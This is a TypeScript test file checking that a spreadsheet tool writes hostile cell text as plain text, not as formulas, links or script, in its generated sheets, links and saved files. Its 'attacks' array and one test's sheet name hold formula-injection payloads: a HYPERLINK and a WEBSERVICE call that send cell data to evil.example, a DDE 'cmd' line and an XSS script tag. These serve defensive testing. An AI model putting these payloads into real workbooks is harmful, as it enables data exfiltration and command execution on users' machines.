import { freezeSheet } from "../../src/actions/frozen/freezeSheet";
import { insertCharts } from "../../src/actions/charts/insertCharts";
import { insertOverview } from "../../src/actions/charts/insertOverview";
import { readWorkbook } from "../../src/actions/reading/readWorkbook";
import { wholeSheet } from "../../src/host/model/area";
import { exampleSeries } from "../../src/core/register/exampleFigures";
import { monthlyWorkbook } from "../actions/support/workbooks";
import { partsOf } from "../host/support/files";
import { succeed } from "./support/actionCases";
import { MatrixHost } from "./support/matrixHost";

/** Text that a spreadsheet would take for a formula or a command stays text wherever Styrtal writes it. */
const excel = new MatrixHost();
afterAll(() => excel.stop());

const attacks = [
  '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "=1+1",
  "'=1+1",
  '=WEBSERVICE("http://evil.example")',
  "=&é<script>alert(1)</script>",
];

function hostileWorkbook() {
  const [row] = exampleSeries();
  if (row === undefined) throw new Error("no example");
  const rows = attacks.map((indicator) => ({
    ...row,
    indicator,
    unit: "=A1",
    values: row.values.slice(0, 14),
  }));
  return monthlyWorkbook(rows);
}

test.each(["Översikt", "Diagram", "Underlag", "Diagram fryst"])("on %s", async (sheetName) => {
  const workbook = hostileWorkbook();
  excel.connect(workbook);
  const { assessments, read } = await succeed(readWorkbook({ all: true }));
  expect(assessments.length).toBeGreaterThan(5);
  const seriesIds = assessments.map(({ series }) => series.id);
  await succeed(insertOverview({ sheets: read }));
  await succeed(insertCharts({ sheets: read, seriesIds }));
  await succeed(freezeSheet("Diagram"));
  const sheet = workbook.sheet(sheetName);
  if (sheet === null) throw new Error(`no ${sheetName}`);
  const formulas: string[] = [];
  let seen = 0;
  sheet.cells.forEach(wholeSheet, (cell, row) => {
    if (cell.formula !== null) formulas.push(cell.formula.a1(row, cell.column));
    if (typeof cell.value === "string" && /HYPERLINK|WEBSERVICE|cmd/.test(cell.value)) seen += 1;
  });
  // Links of ours to the cells that are to be checked.
  const own = /^HYPERLINK\("#'Månadsdata'![A-Z]+\d+","Månadsdata, [A-Z]+\d+"\)$/;
  expect(
    formulas
      .filter((text) => !own.test(text))
      .filter((text) => /HYPERLINK|WEBSERVICE|cmd|SUM\(1\+1\)|^1\+1$|^A1$|-2\+3/.test(text)),
  ).toEqual([]);
  seen += sheet.charts.filter(({ title }) => /HYPERLINK|WEBSERVICE|cmd/.test(title.text ?? "")).length;
  expect(seen).toBeGreaterThan(0);
  for (const chart of sheet.charts) {
    expect(chart.title.formula).toBeNull();
    for (const series of chart.series) expect(series.values ?? "").toMatch(/^('[^']+'|[\wåäöÅÄÖ]+)!\$/);
  }
});

test("the name of a sheet stays text in the links to what is to be checked there", async () => {
  const workbook = hostileWorkbook();
  const name = 'Data"&WEBSERVICE(A1)&"';
  workbook.sheets[0]!.name = name;
  excel.connect(workbook);
  const { read } = await succeed(readWorkbook({ all: true }));
  await succeed(insertOverview({ sheets: read }));
  const links: string[] = [];
  workbook.sheet("Översikt")?.cells.forEach(wholeSheet, (cell, row) => {
    if (cell.formula !== null) links.push(cell.formula.a1(row, cell.column));
  });
  const quoted = name.replaceAll('"', '""');
  expect(links.filter((text) => text.includes("WEBSERVICE")).length).toBeGreaterThan(0);
  for (const text of links.filter((one) => one.startsWith("HYPERLINK")))
    expect(text.replaceAll(quoted, "NAMN")).toMatch(/^HYPERLINK\("#'NAMN'![A-Z]+\d+","NAMN, [A-Z]+\d+"\)$/);
});

test("no document part of the saved file has it as formula, link or element", async () => {
  const workbook = hostileWorkbook();
  excel.connect(workbook);
  const { assessments, read } = await succeed(readWorkbook({ all: true }));
  await succeed(insertCharts({ sheets: read, seriesIds: assessments.map(({ series }) => series.id) }));
  for (const [name, bytes] of partsOf(excel.save())) {
    const text = new TextDecoder().decode(bytes);
    expect([name, /<(?:\w+:)?f>[^<]*(HYPERLINK|WEBSERVICE|cmd\|)/.test(text)]).toEqual([name, false]);
    expect([name, text.includes("<script>")]).toEqual([name, false]);
    expect([name, /TargetMode="External"/.test(text)]).toEqual([name, false]);
  }
  for (const { name } of workbook.names.all()) expect(name).toMatch(/^(_styrtal_[a-z]+(_\d+)*|_xlnm\.\w+)$/);
});
